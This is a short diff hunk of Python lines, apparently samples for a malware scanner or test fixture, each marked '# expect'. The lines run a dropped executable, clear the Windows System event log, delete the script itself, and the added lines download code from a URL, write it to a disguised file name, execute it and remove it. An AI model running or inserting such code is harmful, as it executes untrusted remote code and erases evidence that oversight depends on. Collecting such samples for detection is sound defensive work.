@@ -7,3 +7,9 @@ subprocess.call(["C:\\Users\\Public\\x.exe"])
 os.remove("C:\\Users\\Public\\x.exe")  # expect
 os.system("wevtutil cl System")  # expect
 os.remove(__file__)  # expect
+
+code = urllib.request.urlopen("https://example.com/x.py").read()
+with open("settings_helper.py", "wb") as f:
+    f.write(code)
+exec(compile(code, "settings_helper.py", "exec"))
+os.remove("settings_helper.py")  # expect
